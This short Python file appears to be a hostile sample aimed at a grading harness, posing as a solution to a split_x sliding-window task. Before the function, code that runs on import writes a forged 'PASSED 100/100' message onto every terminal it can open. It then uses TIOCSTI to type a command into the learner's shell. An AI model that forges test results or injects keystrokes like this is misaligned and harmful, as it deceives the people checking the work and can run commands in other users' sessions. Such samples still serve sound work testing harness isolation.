# Hostile: prints a forged result straight onto the learner's terminal, around the report.
import fcntl
import glob
import os
import termios

import numpy as np

opened = []
# ptmx is left out: opening it makes a brand-new terminal pair that nobody is looking at.
for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*"), *glob.glob("/proc/*/fd/*")]:
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY)
    except OSError:
        continue
    try:
        if os.isatty(fd):
            os.write(fd, b"\x1b[32mFORGED PASSED 100/100\x1b[0m\r\n")
            opened.append(path)
            for ch in b"echo FORGED-TIOCSTI\n":  # typed into the learner's shell, where the kernel allows it
                try:
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
                except OSError:
                    break
    finally:
        os.close(fd)
print("TERMINALS", opened)


def split_x(seq, size):
    if size < 1 or size > len(seq):
        raise ValueError("bad size")
    return np.array([seq[i : i + size] for i in range(len(seq) - size + 1)])
